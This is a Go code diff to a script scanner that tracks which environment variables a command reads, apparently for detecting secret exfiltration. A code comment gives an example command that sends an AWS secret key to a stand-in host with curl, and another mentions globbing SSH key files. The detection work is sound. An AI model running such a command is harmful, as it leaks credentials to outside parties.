@@ -1,6 +1,7 @@
 package inline
 
 import (
+	"regexp"
 	"strings"
 
 	"github.com/ahp-opa/ahp-opa/internal/shell"
@@ -335,6 +336,18 @@ func (s *scanner) envUse(i int) {
 	s.f.wholeEnv = true
 }
 
+// envRef is the value of one environment variable read by name: the
+// shell's $NAME, so that a command line or URL built from it says which
+// variable it carries (curl "https://x.example/?$AWS_SECRET_ACCESS_KEY").
+func envRef(name string) (value, bool) {
+	if !envName.MatchString(name) {
+		return value{}, false
+	}
+	return value{s: "${" + name + "}"}, true
+}
+
+var envName = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*$`)
+
 // namesOnly are calls that keep only the names or the number of a
 // mapping's entries.
 var namesOnly = map[string]bool{"len": true, "list": true, "sorted": true, "Object.keys": true, "count": true, "sizeof": true, "array_keys": true}
@@ -625,10 +638,20 @@ func (s *scanner) nameTerm(ts []token) (value, int) {
 		if end == 3 && (ts[2].text == "HOME" || ts[2].text == "USERPROFILE") {
 			return s.postfix(value{s: "~"}, ts, 4)
 		}
+		if end == 3 && ts[2].kind == tokStr {
+			if v, ok := envRef(ts[2].text); ok {
+				return s.postfix(v, ts, 4)
+			}
+		}
 	}
 	kind, _ := s.lookup(t.text)
 	if kind == kEnv && strings.HasSuffix(t.text, "HOME") {
 		return value{s: "~"}, 1
+	}
+	if name, ok := strings.CutPrefix(t.text, "process.env."); ok && s.lang == javascript {
+		if v, ok := envRef(name); ok {
+			return s.postfix(v, ts, 1)
+		}
 	}
 	if kind == kGlob && len(ts) >= 2 && ts[1].kind == tokStr {
 		return s.globbed(s.resolve(ts[1])), 2 // Perl's glob "~/.ssh/*"
@@ -670,9 +693,15 @@ func (s *scanner) nameTerm(ts []token) (value, int) {
 		}
 		v = s.globbed(s.eval(pos[0]))
 	case kEnv:
-		if len(args) > 0 && len(args[0]) == 1 && (args[0][0].text == "HOME" || args[0][0].text == "USERPROFILE") {
+		switch {
+		case len(args) > 0 && len(args[0]) == 1 && (args[0][0].text == "HOME" || args[0][0].text == "USERPROFILE"):
 			v = value{s: "~"}
-		} else {
+		case len(args) > 0 && len(args[0]) == 1 && args[0][0].kind == tokStr:
+			var ok bool
+			if v, ok = envRef(args[0][0].text); !ok {
+				v = unknown
+			}
+		default:
 			v = unknown
 		}
 	case kList:
